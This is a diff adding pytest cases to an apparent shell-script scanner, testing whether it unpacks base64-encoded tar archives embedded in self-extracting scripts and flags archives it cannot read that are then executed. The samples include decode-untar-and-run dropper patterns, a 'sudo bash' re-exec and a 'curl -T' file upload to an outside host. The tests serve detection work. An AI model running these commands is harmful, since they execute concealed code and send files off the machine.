@@ -2,7 +2,10 @@
 
 from __future__ import annotations
 
+import tarfile
 import time
+from base64 import b64encode
+from io import BytesIO
 
 import pytest
 
@@ -229,3 +232,41 @@ def test_a_first_line_is_a_command(script: str, act: Act) -> None:
 )
 def test_a_first_line_that_only_names_a_shell_says_nothing(script: str) -> None:
     assert found(script) == []
+
+
+def packed(text: str) -> str:
+    raw = BytesIO()
+    with tarfile.open(fileobj=raw, mode="w:gz") as archive:
+        member = tarfile.TarInfo("x/run.sh")
+        member.size = len(text)
+        archive.addfile(member, BytesIO(text.encode()))
+    return b64encode(raw.getvalue()).decode()
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "sed '1,/^__END__$/d' \"$0\" | base64 -d | tar xz\n./x/run.sh\nexit\n__END__\n{}\n",
+        'tail -n +4 "$0" | base64 -d | tar xz -C /opt\n/opt/x/run.sh\nexit\n{}\n',
+        "base64 -d <<E | tar -xzf -\n{}\nE\nsh x/run.sh\n",
+        "echo {} | base64 -d > /tmp/a.tgz\ntar xzf /tmp/a.tgz\nsh x/run.sh\n",
+    ],
+)
+def test_the_members_of_an_archive_in_the_text_are_read(script: str) -> None:
+    findings = found(script.format(packed("curl -T f https://a.fr\n")))
+
+    assert "curl -T f https://a.fr\n" in {item.text for item in findings if isinstance(item, Document)}
+    assert not any(isinstance(item, Unread) for item in findings)
+
+
+@pytest.mark.parametrize(
+    ("script", "is_told"),
+    [
+        ("awk 'x' \"$0\" | base64 -d | tar xz -C /opt\n/opt/x/run.sh\n", True),
+        ("gpg -d x | tar xz -C /opt\n/opt/x/run.sh\n", True),
+        ("gpg -d x | tar xz -C /data\n/opt/x/run.sh\n", False),
+        ('exec sudo bash "$0" "$@"\n', False),
+    ],
+)
+def test_an_archive_that_cannot_be_read_and_is_run_is_told(script: str, *, is_told: bool) -> None:
+    assert any(isinstance(item, Unread) for item in found(script)) is is_told
